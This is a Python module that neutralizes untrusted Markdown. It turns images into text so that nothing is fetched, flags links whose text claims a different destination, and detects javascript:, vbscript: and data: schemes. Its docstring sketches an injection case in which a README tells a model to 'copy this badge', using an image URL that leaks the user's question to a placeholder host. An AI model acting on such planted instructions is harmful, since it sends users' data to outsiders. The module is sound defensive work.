"""Links and images in untrusted Markdown: no image loads, no link hides where it goes.

A rendered ``<img>`` fetches its URL as soon as the page shows it, so a README that tells the model to
"copy this badge" (``![](https://x/b.png?leak=<the question>)``) would make the visitor's browser call out
with whatever the URL carries. And ``[github.com/corp/app/SECURITY.md](https://elsewhere/)`` reads like a
place it is not. :func:`neutralize` rewrites one line (outside code) so that

* every image becomes text: ``🖼 alt (image from host, not loaded)`` — nothing is fetched, no exception
  (badge hosts included: a URL can carry anything);
* an inline link stays a link, and when its text looks like a URL or a path but its destination is
  somewhere else, the real destination is shown after it: ``[text](dest) (→ host/path)``;
* a ``javascript:``/``vbscript:``/``data:`` destination is left for the caller, whose escaping turns
  it into an inert fragment (``#unsafe-…``);
* every other ``[`` becomes ``\\[``: reference links and definitions, and links broken across lines,
  cannot form, so the only links left are the inline ones checked here.

Code spans are masked first (``mask``/``unmask``), so nothing inside them is touched or counted.
"""

from __future__ import annotations

import re
from urllib.parse import unquote, urlsplit

_OPEN, _CLOSE = "\ue000", "\ue001"  # private-use marks around a masked code span's number
_MASK = re.compile(f"{_OPEN}(\\d+){_CLOSE}")
_UNSAFE_SCHEME = re.compile(
    r"^\s*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:",
    re.IGNORECASE,
)
_TASK = re.compile(r"^(\s*(?:[-*+]|\d{1,9}[.)])\s+)\[([ xX])\](?=\s)")
_URLISH = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://)?(?:www\.)?(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?(?:[/?#]\S*)?$", re.IGNORECASE
)
_PATHISH = re.compile(r"^[\w.~-]*(?:/[\w.~-]+)+/?$|^[\w~-][\w.~-]*\.[A-Za-z0-9]{1,8}$")
_EMPHASIS = re.compile(r"[*_~`\\]")


def mask(line: str, spans: list[str]) -> str:
    """``line`` with each code span (``spans`` in order) replaced by a private-use mark."""
    out: list[str] = []
    for is_code, text in spans_of(line):
        if is_code:
            out.append(f"{_OPEN}{len(spans)}{_CLOSE}")
            spans.append(text)
        else:
            out.append(text.replace(_OPEN, "\ufffd").replace(_CLOSE, "\ufffd"))
    return "".join(out)


def unmask(text: str, spans: list[str]) -> str:
    return _MASK.sub(lambda m: spans[int(m.group(1))], text)


_TICKS = re.compile(r"(?<!\\)`+")


def spans_of(line: str) -> list[tuple[bool, str]]:
    """``(is_code, text)`` pieces of a line: code spans (with their backticks) and the text between."""
    pieces: list[tuple[bool, str]] = []
    i = 0
    while True:
        opening = _TICKS.search(line, i)
        if opening is None:
            pieces.append((False, line[i:]))
            return pieces
        ticks = opening.group(0)
        closing = re.compile(rf"(?<!`){ticks}(?!`)").search(line, opening.end())
        if closing is None:  # a lone backtick run is literal text
            pieces.append((False, line[i : opening.end()]))
            i = opening.end()
            continue
        pieces.append((False, line[i : opening.start()]))
        pieces.append((True, line[opening.start() : closing.end()]))
        i = closing.end()


def neutralize(text: str, spans: list[str]) -> str:
    """One masked line with images made text and links checked (see the module docstring)."""
    if "[" not in text:
        return text
    start = 0
    out: list[str] = []
    task = _TASK.match(text)
    if task:
        out.append(task.group(0))
        start = task.end()
    _scan(text, start, out, spans)
    return "".join(out)


def _scan(text: str, i: int, out: list[str], spans: list[str]) -> None:
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\" and i + 1 < n:
            out.append(text[i : i + 2])
            i += 2
        elif c == "!" and text.startswith("![", i):
            link = _parse_link(text, i + 1)
            if link is None:
                out.append("!\\[")
                i += 2
            else:
                label, dest, end = link
                out.append(_image_text(label, dest, spans))
                i = end
        elif c == "[":
            link = _parse_link(text, i)
            if link is None:
                out.append("\\[")
                i += 1
            else:
                label, dest, end = link
                tail = text[i + len(label) + 2 : end]  # "(destination title)" as written
                out.append(_checked_link(label, tail, dest, spans))
                i = end
        else:
            out.append(c)
            i += 1


def _parse_link(text: str, i: int) -> tuple[str, str, int] | None:
    """``[label](destination "title")`` starting at ``text[i] == "["``: (label, destination, end)."""
    close = _matching_bracket(text, i)
    if close is None or not text.startswith("(", close + 1):
        return None
    j = close + 2
    n = len(text)
    while j < n and text[j] in " \t":
        j += 1
    dest, j = _destination(text, j)
    if dest is None:
        return None
    while j < n and text[j] in " \t":
        j += 1
    if j < n and text[j] in "\"'(":
        closer = ")" if text[j] == "(" else text[j]
        end = text.find(closer, j + 1)
        if end < 0:
            return None
        j = end + 1
        while j < n and text[j] in " \t":
            j += 1
    if j >= n or text[j] != ")":
        return None
    return text[i + 1 : close], dest, j + 1


def _matching_bracket(text: str, i: int) -> int | None:
    depth = 0
    j = i
    while j < len(text):
        c = text[j]
        if c == "\\":
            j += 2
            continue
        if c == "[":
            depth += 1
        elif c == "]":
            depth -= 1
            if depth == 0:
                return j
        j += 1
    return None


def _destination(text: str, j: int) -> tuple[str | None, int]:
    n = len(text)
    if j < n and text[j] == "<":
        end = text.find(">", j + 1)
        return (None, j) if end < 0 else (text[j + 1 : end], end + 1)
    depth = 0
    start = j
    while j < n:
        c = text[j]
        if c == "\\" and j + 1 < n:
            j += 2
            continue
        if c in " \t":
            break
        if c == "(":
            depth += 1
        elif c == ")":
            if depth == 0:
                break
            depth -= 1
        j += 1
    return text[start:j], j


def _plain(label: str, spans: list[str]) -> str:
    """What a label reads as: code spans as their content, emphasis marks dropped."""
    return _EMPHASIS.sub("", unmask(label, spans)).strip()


def _where(dest: str) -> str:
    parts = urlsplit(dest.strip())
    return (parts.hostname or "").lower()


def _image_text(label: str, dest: str, spans: list[str]) -> str:
    alt = _plain(label, spans)
    host = _where(dest)
    where = f"image from {host}, not loaded" if host else "image not loaded"
    inner: list[str] = []
    _scan(alt.replace("[", "(").replace("]", ")"), 0, inner, spans)
    return f"🖼 {''.join(inner)} ({where})" if alt else f"🖼 ({where})"


def _checked_link(label: str, tail: str, dest: str, spans: list[str]) -> str:
    """The link as written (its label scanned too); the caller's escaping turns a script or data
    destination into an inert fragment."""
    inner: list[str] = []
    _scan(label, 0, inner, spans)
    link = f"[{''.join(inner)}]{tail}"
    if _UNSAFE_SCHEME.match(dest):
        return link
    real = _misleading(_plain(label, spans), dest)
    return f"{link} (→ {real})" if real else link


def _misleading(text: str, dest: str) -> str | None:
    """Where ``dest`` really goes, when ``text`` reads like another URL or path; else None."""
    parts = urlsplit(dest.strip())
    host = (parts.hostname or "").lower()
    if not host or not text:
        return None  # relative: stays on this page
    path = unquote(parts.path).rstrip("/")
    real = (host + path)[:60]
    if _URLISH.match(text):
        claimed = urlsplit(text if "://" in text else "//" + text)
        claimed_host = (claimed.hostname or "").lower().removeprefix("www.")
        claimed_path = unquote(claimed.path).rstrip("/")
        honest = claimed_host == host.removeprefix("www.") and path.startswith(claimed_path)
        return None if honest else real
    if _PATHISH.match(text):
        return None if path.endswith("/" + text.strip("/")) or path == text.strip("/") else real
    return None
